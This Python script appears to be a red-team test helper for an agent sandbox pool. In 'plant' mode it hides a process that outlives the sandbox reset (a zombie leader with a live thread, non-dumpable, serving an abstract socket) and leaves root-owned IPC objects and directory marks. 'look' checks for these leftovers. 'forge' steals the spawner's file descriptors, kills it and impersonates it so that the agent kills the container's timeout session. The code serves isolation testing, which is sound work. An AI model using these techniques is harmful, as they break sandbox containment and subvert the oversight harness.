"""Run inside a claimed sandbox (python3 -I -c THIS MODE) by tests/test_redteam_agents.py; prints one JSON
object. Standard library only (it runs on the sandbox's or the image's python3).

plant: leave a process meant to outlive the reset, hidden as well as the code can hide one: it leaves its
  session, makes itself non-dumpable (its /proc files become root's) and its leader ends alone (the exit
  syscall, not exit_group), so it shows as a zombie while a thread of it runs on, answering on an abstract
  Unix socket; a POSIX message queue with a message in it, where the sandbox lets the code make one; and
  SysV IPC objects handed to root with mode 0 (their creator may still remove them, but not read them);
  an extended attribute and a mode on the work directory itself (the code owns it).
look: what the next claim finds of that: the survivor's answer, the queue's message, the IPC objects, the
  work directory's attribute and mode.
forge: take the spawner's control socket and this exec's answer pipe (pidfd_getfd: it runs as the code's
  uid), kill it, and speak for it to the next exec: the pid of the session of the container's TTL
  (`timeout`, root), and no status; so the agent watches that process's end, which does not come before
  the exec's timeout, and kills that "command's" session.
"""

import ctypes
import json
import os
import select
import signal
import socket
import sys
import threading

NAME = "\0poolui-redteam"
QUEUE = b"/poolui-redteam"
KEY = 0x5EC2E7
SYS_EXIT, SYS_PIDFD_GETFD = 60, 438  # x86_64
libc = ctypes.CDLL(None, use_errno=True)


def queues():
    try:
        return libc.mq_open, libc.mq_send, libc.mq_receive
    except AttributeError:  # a glibc before 2.34 keeps them in librt
        rt = ctypes.CDLL("librt.so.1", use_errno=True)
        return rt.mq_open, rt.mq_send, rt.mq_receive


def survive():
    """The hidden process's body (it never returns)."""
    os.setsid()
    libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0
    server = socket.socket(socket.AF_UNIX)
    server.bind(NAME)
    server.listen(4)

    def answer():
        while True:
            conn, _ = server.accept()
            conn.sendall(f"alive {os.getpid()}".encode())
            conn.close()

    threading.Thread(target=answer).start()
    libc.syscall(SYS_EXIT, 0)  # this thread alone: the leader becomes a zombie, the process lives on


def plant():
    seen = {}
    r, w = os.pipe()
    if os.fork() == 0:
        os.close(r)
        if os.fork() == 0:
            for fd in (0, 1, 2):
                os.dup2(os.open(os.devnull, os.O_RDWR), fd)
            os.write(w, b"x")
            os.close(w)
            survive()
        os._exit(0)
    os.close(w)
    os.read(r, 1)
    while (answer := ask()) is None:  # until it answers: its thread serves
        pass
    seen["survivor"] = answer
    mq_open, mq_send, _ = queues()
    q = mq_open(QUEUE, os.O_CREAT | os.O_RDWR, 0o600, None)
    seen["mq"] = ctypes.get_errno() if q < 0 else mq_send(q, b"from the claim before", 21, 0)
    seen["ipc"] = [hide(libc.shmctl, libc.shmget(KEY, 4096, 0o1600)), hide(libc.msgctl, libc.msgget(KEY, 0o1600)),
                   hide(libc.semctl, libc.semget(KEY, 1, 0o1600), 0)]
    seen["mode"] = os.stat(".").st_mode
    os.setxattr(".", "user.poolui-redteam", b"from the claim before")
    os.chmod(".", 0o700)
    print(json.dumps(seen))


class Perm(ctypes.Structure):  # struct ipc_perm, first in each of shmid_ds, msqid_ds, semid_ds (x86_64)
    _fields_ = [("key", ctypes.c_int), ("uid", ctypes.c_uint), ("gid", ctypes.c_uint), ("cuid", ctypes.c_uint),
                ("cgid", ctypes.c_uint), ("mode", ctypes.c_ushort), ("pad", ctypes.c_char * 30)]


def hide(ctl, i, *semnum):
    """IPC_STAT, then IPC_SET with root as the owner and mode 0; 0 when done."""
    ds = (ctypes.c_char * 512)()
    perm = Perm.from_buffer(ds)
    if i < 0 or ctl(i, *semnum, 2, ds) < 0:
        return ctypes.get_errno() or -1
    perm.uid, perm.gid, perm.mode = 0, 0, 0
    return ctl(i, *semnum, 1, ds)


def ask():
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(NAME)
        return s.recv(100).decode()
    except OSError:
        return None
    finally:
        s.close()


def look():
    mq_open, _, mq_receive = queues()
    q, message = mq_open(QUEUE, os.O_RDONLY | os.O_NONBLOCK, 0, None), None
    if q >= 0:
        buf = ctypes.create_string_buffer(8192)
        n = mq_receive(q, buf, 8192, None)
        message = buf.raw[:n].decode() if n >= 0 else f"queue there, errno {ctypes.get_errno()}"
    ipc = [libc.shmget(KEY, 0, 0), libc.msgget(KEY, 0), libc.semget(KEY, 0, 0)]  # -1: none with the key
    try:
        xattr = os.getxattr(".", "user.poolui-redteam").decode()
    except OSError:
        xattr = None
    print(json.dumps({"survivor": ask(), "mq": message, "ipc": ipc, "xattr": xattr, "mode": os.stat(".").st_mode}))


def read(path):
    with open(path, "rb") as f:
        return f.read()


def spawner():
    for p in os.listdir("/proc"):
        try:
            argv = read(f"/proc/{p}/cmdline").split(b"\0")
        except OSError:
            continue
        if len(argv) > 5 and b"marshal.loads" in argv[4] and int(p) != os.getpid():
            return int(p), int(argv[5])
    raise SystemExit("no spawner")


def forge():
    pid, control = spawner()
    pidfd = os.pidfd_open(pid)
    stolen = {}
    for fd in os.listdir(f"/proc/{pid}/fd"):
        if os.readlink(f"/proc/{pid}/fd/{fd}").startswith(("socket:", "pipe:")):
            stolen[int(fd)] = libc.syscall(SYS_PIDFD_GETFD, pidfd, int(fd), 0)
    ours = stolen.pop(control)
    os.kill(pid, signal.SIGKILL)  # before this command ends: the next request can only come to us
    main = os.pidfd_open(os.getpid())
    ttl = next(int(p) for p in os.listdir("/proc") if p.isdigit() and read(f"/proc/{p}/comm") == b"timeout\n")
    stat = read(f"/proc/{ttl}/stat")
    session = int(stat[stat.rfind(b")") + 2:].split()[3])
    print(json.dumps({"spawner": pid, "control": ours, "ttl": ttl}), flush=True)
    if os.fork() or os.fork():
        os._exit(0)
    os.setsid()
    select.select([main], [], [], 30)  # this exec's command ended: say so in the spawner's place
    for fd in stolen.values():
        try:
            os.write(fd, b"status 0\n")
        except OSError:
            pass
        os.close(fd)
    control_sock = socket.socket(fileno=ours)
    _, fds, _, _ = socket.recv_fds(control_sock, 1 << 17, 5)  # the next exec's request: its answer pipe first
    os.write(fds[0], b"pid %d\n" % session)
    os._exit(0)


{"plant": plant, "look": look, "forge": forge}[sys.argv[1]]()
